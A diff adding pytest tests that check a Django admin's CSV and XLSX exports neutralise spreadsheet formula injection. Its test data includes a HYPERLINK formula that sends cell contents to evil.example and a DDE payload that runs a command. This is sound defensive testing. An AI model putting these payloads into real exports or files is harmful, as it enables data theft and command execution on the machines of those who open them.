@@ -344,3 +344,121 @@ def test_one_address_trying_many_usernames_is_stopped(settings, officer):
         log_in(behind_proxy("198.51.100.7"), "secretariat", "the-right-password-42").status_code
         == 302
     )
+
+
+# 2. Formula injection through the admin's exports -------------------------------------------
+
+FORMULAE = [
+    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
+    "=cmd|' /C calc'!A0",
+    "+1+1",
+    "-2+3",
+    "@SUM(1)",
+    "'=already quoted",
+    "\t=tab first",
+]
+
+
+def formula_like(text: str) -> bool:
+    return str(text).startswith(("=", "+", "-", "@", "\t", "\r"))
+
+
+@pytest.fixture
+def formula_names():
+    """Organisations and projects named like formulae, imported as an officer would."""
+    import tablib
+
+    from members.resources import OrganisationResource
+    from partnerships.resources import ProjectResource
+
+    from .factories import SectorFactory
+
+    SectorFactory(slug="steel", name="Iron and steel")
+    organisations = tablib.Dataset(headers=["name", "notes"])
+    for n, text in enumerate(FORMULAE):
+        organisations.append([text, f"{text} note {n}"])
+    result = OrganisationResource().import_data(organisations, dry_run=False)
+    assert not result.has_errors() and not result.has_validation_errors()
+    projects = tablib.Dataset(headers=["name", "country", "sponsor", "sector", "site"])
+    for text in FORMULAE:
+        projects.append([text, "IN", FORMULAE[0], "steel", text])
+    result = ProjectResource().import_data(projects, dry_run=False)
+    assert not result.has_errors() and not result.has_validation_errors()
+
+
+def admin_export(client, model_path: str, resource_prefix: str, columns, file_format: str):
+    data = {"format": file_format, "resource": "0"}
+    data.update({f"{resource_prefix}_{c}": "on" for c in columns})
+    response = client.post(f"/admin/{model_path}/export/", data)
+    assert response.status_code == 200
+    return response.content
+
+
+def test_imported_formulae_are_stored_as_text_without_the_spreadsheet_apostrophe(formula_names):
+    """As in a spreadsheet, a leading apostrophe before a formula only says "this is text"."""
+    from members.models import Organisation
+
+    stored = {text.removeprefix("'") for text in FORMULAE}
+    assert "=already quoted" in stored
+    assert stored <= set(Organisation.objects.values_list("name", flat=True))
+    assert stored == set(Project.objects.values_list("name", flat=True))
+
+
+@pytest.mark.parametrize(
+    "model_path, resource",
+    [
+        ("members/organisation", "members.resources.OrganisationResource"),
+        ("partnerships/project", "partnerships.resources.ProjectResource"),
+    ],
+)
+def test_admin_exports_neutralise_every_formula(staff_client, formula_names, model_path, resource):
+    import csv
+    import io
+
+    from django.utils.module_loading import import_string
+    from openpyxl import load_workbook
+
+    resource_class = import_string(resource)
+    columns = resource_class().get_export_headers()
+    prefix = resource_class.__name__.lower()
+    text = admin_export(staff_client, model_path, prefix, columns, "0").decode("utf-8-sig")
+    rows = list(csv.reader(io.StringIO(text)))
+    cells = [cell for row in rows[1:] for cell in row]
+    assert any(cell == "'" + FORMULAE[0] for cell in cells)
+    assert not [cell for cell in cells if formula_like(cell)]
+
+    workbook = load_workbook(
+        io.BytesIO(admin_export(staff_client, model_path, prefix, columns, "1"))
+    )
+    xlsx_cells = [cell for row in workbook.active.iter_rows(min_row=2) for cell in row]
+    assert xlsx_cells
+    assert not [c.coordinate for c in xlsx_cells if c.data_type == "f"]
+    assert not [c.value for c in xlsx_cells if isinstance(c.value, str) and formula_like(c.value)]
+
+
+def test_an_exported_file_imported_back_changes_nothing(staff_client, formula_names):
+    import tablib
+
+    from members.models import Organisation
+    from members.resources import OrganisationResource
+
+    before = sorted(Organisation.objects.values_list("name", "notes"))
+    history = Organisation.history.count()
+    columns = OrganisationResource().get_export_headers()
+    content = admin_export(
+        staff_client, "members/organisation", "organisationresource", columns, "0"
+    )
+    dataset = tablib.Dataset().load(content.decode("utf-8-sig"), format="csv")
+    result = OrganisationResource().import_data(dataset, dry_run=False)
+    assert not result.has_errors() and not result.has_validation_errors()
+    assert {row.import_type for row in result.rows} == {"skip"}
+    assert sorted(Organisation.objects.values_list("name", "notes")) == before
+    assert Organisation.history.count() == history
+
+
+@pytest.mark.parametrize("text", ["=1", "'=1", "''=1", "'", "'x", "plain", "-", "", "@", "\t"])
+def test_restore_undoes_neutralise_exactly(text):
+    from leadit.sections.csvstream import neutralise, restore
+
+    assert restore(neutralise(text)) == text
+    assert not neutralise(text).startswith(("=", "+", "-", "@", "\t", "\r"))
